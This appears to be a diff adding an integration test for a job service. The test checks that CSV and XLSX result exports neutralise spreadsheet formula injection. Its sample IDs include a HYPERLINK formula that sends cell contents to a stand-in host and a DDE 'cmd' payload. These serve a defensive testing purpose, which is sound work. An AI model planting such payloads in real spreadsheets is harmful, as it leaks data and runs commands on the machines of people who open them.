@@ -462,3 +462,45 @@ def test_a_running_job_survives_a_redis_restart_under_its_workers(cluster, jobs_
     status = _wait(jobs_client, job_id, timeout=300)
     assert status["counts"] == {"total": 64, "done": 64, "failed": 0, "pending": 0}
     assert [line["index"] for line in _lines(jobs_client, job_id)] == list(range(64))
+
+
+# --- results as spreadsheets ------------------------------------------------------------------
+# (An id starting with a tab or a carriage return is refused at intake; the export's unit test covers them.)
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3",
+            " =1+1", "\uff1d1+1", "Biasa-7"]  # fmt: skip
+
+
+def test_results_come_back_as_csv_and_xlsx_with_no_cell_a_spreadsheet_would_run(cluster, jobs_client):
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    cluster.ensure_workers(1)
+    items = [{"id": formula, "text": f"Warga desa menanam padi bersama pada musim hujan tahun ini, ke-{n}."}
+             for n, formula in enumerate(FORMULAS)]  # fmt: skip
+    job_id = _submit(jobs_client, items, force=True)
+    _wait(jobs_client, job_id)
+    as_csv = jobs_client.get(f"/v1/jobs/{job_id}/results?format=csv&delimiter=;")
+    assert as_csv.status_code == 200 and as_csv.mimetype == "text/csv"
+    raw = as_csv.get_data()
+    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the mark
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
+    assert rows[0] == ["id", "index", "status", "summary", "translation", "problem", "warnings"]
+    ids = [r[0] for r in rows[1:]]
+    assert ids == [("'" + f if f != "Biasa-7" else f) for f in FORMULAS]
+    assert all(line.startswith('"') for line in raw.decode("utf-8-sig").splitlines() if line)  # every field quoted
+    # Chosen by Accept too, and the same rows.
+    negotiated = jobs_client.get(f"/v1/jobs/{job_id}/results", headers={"Accept": "text/csv"})
+    assert negotiated.mimetype == "text/csv" and "Accept" in negotiated.headers["Vary"]
+
+    as_xlsx = jobs_client.get(f"/v1/jobs/{job_id}/results?format=xlsx")
+    assert as_xlsx.mimetype.endswith("spreadsheetml.sheet")
+    sheet = load_workbook(io.BytesIO(as_xlsx.get_data())).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert [c.value for c in cells] == ids and all(c.data_type == "s" for c in cells)
+    # Resumable as NDJSON is: from an index on.
+    later = jobs_client.get(f"/v1/jobs/{job_id}/results?format=csv&since=5").get_data().decode("utf-8-sig")
+    assert len(list(csv.reader(io.StringIO(later)))) == 1 + len(FORMULAS) - 5
+    bad = jobs_client.get(f"/v1/jobs/{job_id}/results?format=pdf")
+    assert bad.status_code == 422 and bad.get_json()["errors"][0]["loc"] == ["query", "format"]
